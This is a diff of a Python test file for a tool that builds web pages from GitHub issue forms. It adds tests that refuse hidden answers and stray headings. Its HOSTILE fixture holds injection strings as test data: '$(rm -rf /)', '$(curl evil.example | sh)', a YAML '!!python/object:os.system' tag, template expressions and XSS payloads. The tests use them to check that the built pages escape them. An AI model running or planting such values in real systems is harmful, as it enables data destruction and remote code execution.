@@ -55,7 +55,9 @@ SAMPLE = {
     "Privacy": "- [X] Er staan geen persoonsgegevens van bewoners in deze beschrijving",
 }
 
-SCRIPT = "<script>alert(document.domain)</script>"
+# GitHub shows "< script >" as text (a tag starts with "<" and a letter): the form accepts it, and
+# the pages must escape it. Real tags are refused (test_issue_form_shown.py).
+SCRIPT = "< script >alert(document.domain)< /script >"
 HOSTILE = {
     "Titel": "$(rm -rf /) `id` : - '\" {{ x }} !!python/object " + SCRIPT,
     "Samenvatting": "- item: waarde # geen commentaar {{ secrets.TOKEN }} ${HOME} &anker *alias "
@@ -66,7 +68,8 @@ HOSTILE = {
     "Auteurs": "$(curl evil.example | sh), {{ 7*7 }}",
     "Aanleiding": "Tekst met $(rm -rf /) en `uname -a` en '\"{{ }}' en "
     + SCRIPT
-    + " en <img src=x onerror=alert(1)>.\n"
+    + " en < img src=x onerror=alert(1) >.\n"
+    "\n"
     "---\n"
     "titel: nep\n"
     "- lijstje: !!python/object:os.system",
@@ -197,11 +200,11 @@ def test_hostile_values_are_escaped_in_the_built_pages(content_copy, tmp_path):
     )
     assert all(r.ok for r in results), results
     page = (out / "openbaar" / "praktijken" / path.stem / "index.html").read_text(encoding="utf-8")
-    assert "rm -rf /" in page and "&lt;script&gt;" in page  # the title is there, as text
+    assert "rm -rf /" in page and "&lt; script &gt;" in page  # the title is there, as text
     for file in (out / "openbaar").rglob("*"):
         if file.suffix in (".html", ".xml"):
             text = file.read_text(encoding="utf-8")
-            assert "<script>alert" not in text and "onerror=alert" not in text, file
+            assert "< script >alert" not in text and "< img src=x" not in text, file
 
 
 def test_an_invalid_form_writes_nothing(content_copy, tmp_path):
@@ -216,6 +219,25 @@ def test_an_invalid_form_writes_nothing(content_copy, tmp_path):
         "welzijn-de-brug" in result.stderr
     )  # "bedoelde u ...?", from the same checks as wwidw new
     assert not (content_copy / "praktijken" / "buurtkamer-aan-de-dijk.md").exists()
+
+
+def test_a_form_with_hidden_answers_writes_nothing(content_copy, tmp_path):
+    """Issue 13 item 6: GitHub shows the answers with an empty Zichtbaarheid and hides, in an HTML
+    comment in the summary, a second set of answers (Zichtbaarheid: openbaar) that the parser read."""
+    hidden = "".join(
+        f"### {label}\n\n{(SAMPLE | {'Titel': 'Verborgen'}).get(label) or NO_RESPONSE}\n\n"
+        for label in form_labels()[2:]
+    )
+    values = SAMPLE | {
+        "Samenvatting": SAMPLE["Samenvatting"] + "\n<!--\n" + hidden + "-->",
+        "Zichtbaarheid": "",
+    }
+    result = run_formulier(content_copy, submitted(values), tmp_path)
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert "formulier-kop-dubbel" in result.stderr and "Er is niets geschreven" in result.stderr
+    assert "De vraag '### Organisatie' staat meer dan één keer in het formulier." in result.stderr
+    names = {p.name for p in (content_copy / "praktijken").iterdir()}
+    assert names == {p.name for p in (REPO / "content" / "praktijken").iterdir()}
 
 
 def test_an_existing_description_is_never_overwritten(content_copy, tmp_path):
@@ -235,16 +257,18 @@ def test_formulier_is_a_cli_command(content_copy, tmp_path):
     assert result.exit_code == 2 and "UTF-8" in result.output
 
 
-def test_a_heading_typed_inside_a_text_stays_in_that_text():
+def test_a_heading_typed_inside_an_answer_is_refused():
+    """GitHub would show it as a question of the form (formerly demoted and kept)."""
     values = SAMPLE | {
         "Aanpak": "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n## Doel\n# Kop"
     }
     answers, problems = parse_issue_body(submitted(values), "issue.md")
-    assert problems == [] and answers.gemeente == "Rivierstede"
-    assert (
-        answers.secties["Aanpak"]
-        == "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n### Doel\n### Kop"
-    )
+    assert [p.code for p in problems] == ["formulier-kop-dubbel"]
+    assert answers.gemeente == "" and answers.secties == {}  # nothing is read from it
+    values = SAMPLE | {"Aanpak": "Eerst dit.\n\n### Stap 1\n\n## Doel"}
+    _, problems = parse_issue_body(submitted(values), "issue.md")
+    assert [p.code for p in problems] == ["formulier-kop-in-antwoord"]
+    assert "'### Stap 1'" in problems[0].message and "'Aanpak'" in problems[0].message
 
 
 def test_section_texts_cannot_swallow_the_next_section():
